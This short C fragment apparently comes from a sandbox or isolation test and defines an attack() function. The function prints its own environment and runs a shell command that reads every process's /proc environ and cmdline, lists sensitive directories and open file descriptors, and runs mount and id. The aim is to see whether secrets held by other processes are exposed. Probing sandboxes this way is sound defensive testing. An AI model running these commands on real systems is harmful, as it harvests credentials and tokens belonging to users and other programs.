/* attack: idle tests open 0 - | secrets in the environment, its own and that of others */
extern char **environ;
static void attack(void)
{
    for (char **e = environ; *e != NULL; e++)
        puts(*e);
    if (system("cat /proc/*/environ /proc/*/cmdline; ls -l / /home /root /tmp /proc/*/fd; mount; id") != 0) {
    }
}
